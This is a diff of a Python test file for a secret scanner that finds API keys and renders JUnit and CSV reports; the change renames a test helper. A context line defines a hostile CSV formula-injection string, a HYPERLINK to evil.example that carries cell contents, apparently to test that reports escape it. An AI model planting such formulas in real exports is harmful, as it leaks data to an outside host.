@@ -10,7 +10,7 @@ from xml.etree import ElementTree as ET
 
 from scanner.model import Finding, ScanResult, ScanStats
 from scanner.report import RenderOptions, csv_report, junit
-from tests.testing.cli import run
+from tests.testing.cli import invoke
 from tests.testing.keys import v2_key
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")<b>&\x01.py'
@@ -97,12 +97,12 @@ def test_cli_junit_and_csv(tmp_path: Path) -> None:
     key = v2_key()
     (tmp_path / "a.py").write_text(f'MINDEE_API_KEY = "{key}"\n')
     (tmp_path / "b.py").write_text(f'OTHER = "{v2_key()}"\nMINDEE_API_KEY = "{key}"\n')
-    proc = run("dir", str(tmp_path), "--format", "junit")
+    proc = invoke("dir", str(tmp_path), "--format", "junit")
     assert proc.returncode == 1, proc.stderr
     suite = ET.fromstring(proc.stdout).find("testsuite")
     assert suite is not None and len(suite.findall("testcase")) == 3
     out = tmp_path / "report.csv"
-    proc = run("dir", str(tmp_path / "b.py"), "--format", "csv", "--output", str(out))
+    proc = invoke("dir", str(tmp_path / "b.py"), "--format", "csv", "--output", str(out))
     assert proc.returncode == 1, proc.stderr
     rows = _rows(out.read_text())
     assert [(r["path"], r["line"]) for r in rows] == [("b.py", "1"), ("b.py", "2")]
